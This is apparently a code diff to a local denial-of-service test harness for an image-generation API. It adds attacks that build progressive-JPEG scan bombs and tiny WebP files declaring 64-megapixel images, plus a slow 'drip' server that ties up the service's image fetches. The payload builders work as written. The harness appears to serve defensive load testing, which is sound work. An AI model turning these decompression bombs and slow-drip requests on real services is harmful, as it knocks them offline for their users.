@@ -5,6 +5,7 @@ An attack is a coroutine function that takes a `Target` and is listed in ATTACKS
 
 import asyncio
 import dataclasses
+import io
 import json
 import os
 import struct
@@ -16,11 +17,13 @@ from typing import Any
 
 import grpc
 import httpx
+from PIL import Image
 
 HOST = "127.0.0.1"
 SOCKETS = 300
 BEGIN_S = 5.0
 """An attack that cannot get all it wants begins to count after so long, s."""
+_SMALL = json.dumps({"text": "a mug", "params": {"resolution": "96x96"}})
 
 
 @dataclasses.dataclass(frozen=True)
@@ -30,6 +33,7 @@ class Target:
     http_port: int
     grpc_port: int
     metrics_port: int
+    drip_port: int
     neighbour_key: str
     attacker_key: str
 
@@ -135,6 +139,46 @@ async def submits_and_cancels(target: Target, begun: asyncio.Event) -> None:
         await _keep_doing(submit, 4)
 
 
+async def scan_bombs(target: Target, begun: asyncio.Event) -> None:
+    """Small progressive JPEGs of thousands of scans, as pictures and as masks in both forms."""
+    costly = _many_scans(3000)
+    async with _client(target) as client:
+
+        async def upload() -> None:
+            files = {"image": ("a.jpg", costly), "mask": ("m.jpg", costly)}
+            await client.post("/api/v1/image/generate", data={"request": _SMALL}, files=files)
+            begun.set()
+
+        async def edit() -> None:
+            files = {"image": ("a.png", _padded_png(1)), "mask": ("m.jpg", costly)}
+            await client.post("/v1/images/edits", data={"prompt": "a mug", "size": "96x96"}, files=files)
+
+        await asyncio.gather(_keep_doing(upload, 4), _keep_doing(edit, 4))
+
+
+async def large_webps(target: Target, begun: asyncio.Event) -> None:
+    """Two pictures of 64 megapixels in 34 bytes each, a request."""
+    webp = _webp_header(8_000, 8_000)
+    async with _client(target) as client:
+
+        async def upload() -> None:
+            files = {"image": ("a.webp", webp), "mask": ("m.webp", webp)}
+            await client.post("/api/v1/image/generate", data={"request": _SMALL}, files=files)
+            begun.set()
+
+        await _keep_doing(upload, 4)
+
+
+async def dripping_pictures(target: Target, begun: asyncio.Event) -> None:
+    """60 requests with a picture whose bytes come one by one; one that ends is sent again."""
+    await _drip(target, begun, cancel=False)
+
+
+async def cancelled_pictures(target: Target, begun: asyncio.Event) -> None:
+    """The same, each cancelled once it is accepted."""
+    await _drip(target, begun, cancel=True)
+
+
 ATTACKS: Mapping[str, Attack] = {
     attack.__name__: attack
     for attack in (
@@ -146,6 +190,10 @@ ATTACKS: Mapping[str, Attack] = {
         scrapes,
         refused_uploads,
         submits_and_cancels,
+        scan_bombs,
+        large_webps,
+        dripping_pictures,
+        cancelled_pictures,
     )
 }
 
@@ -174,6 +222,34 @@ async def _hold(target: Target, begun: asyncio.Event, head: bytes, drip: bytes) 
     await _keep_doing(connect, SOCKETS)
 
 
+async def _drip(target: Target, begun: asyncio.Event, *, cancel: bool) -> None:
+    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        with suppress(OSError):
+            writer.write(b"HTTP/1.1 200 OK\r\n\r\n")
+            while True:
+                writer.write(b".")
+                await writer.drain()
+                await asyncio.sleep(0.5)
+
+    asked = {"text": "a mug", "params": {"resolution": "96x96"}, "image_url": f"http://{HOST}:{target.drip_port}/"}
+    async with await asyncio.start_server(answer, HOST, target.drip_port), _client(target) as client:
+
+        async def submit() -> None:
+            sent = await client.post("/api/v1/image/generate", json=asked)
+            if sent.status_code != 200:
+                return
+            task = sent.json()["data"]["query_url"]
+            if cancel:
+                await client.delete(task)
+            while (look := await client.get(task)).status_code == 200:
+                if look.json()["data"]["status"] not in ("waiting", "processing"):
+                    return
+                await asyncio.sleep(1)
+
+        asyncio.get_running_loop().call_later(BEGIN_S / 2, begun.set)
+        await _keep_doing(submit, 60)
+
+
 async def _keep_doing(step: Callable[[], Awaitable[None]], at_once: int) -> None:
     async def repeat() -> None:
         while True:
@@ -188,6 +264,21 @@ async def _keep_doing(step: Callable[[], Awaitable[None]], at_once: int) -> None
 
 def _client(target: Target) -> httpx.AsyncClient:
     return httpx.AsyncClient(base_url=target.url, headers={"X-API-Key": target.attacker_key}, timeout=60)
+
+
+def _many_scans(scans: int) -> bytes:
+    """A progressive JPEG of 4096² px whose last scan is there again and again."""
+    file = io.BytesIO()
+    Image.new("RGB", (4096, 4096), "teal").save(file, "JPEG", progressive=True)
+    data = file.getvalue()
+    return data[:-2] + scans * data[data.rindex(b"\xff\xda") : -2] + b"\xff\xd9"
+
+
+def _webp_header(width_px: int, height_px: int) -> bytes:
+    """A lossless WebP of one colour (RFC 9649): a header, and codes of no length."""
+    body = b"\x2f" + struct.pack("<I", (width_px - 1) | (height_px - 1) << 14) + bytes(9)
+    chunk = b"VP8L" + struct.pack("<I", len(body)) + body
+    return b"RIFF" + struct.pack("<I", 4 + len(chunk)) + b"WEBP" + chunk
 
 
 def _padded_png(size_bytes: int) -> bytes:
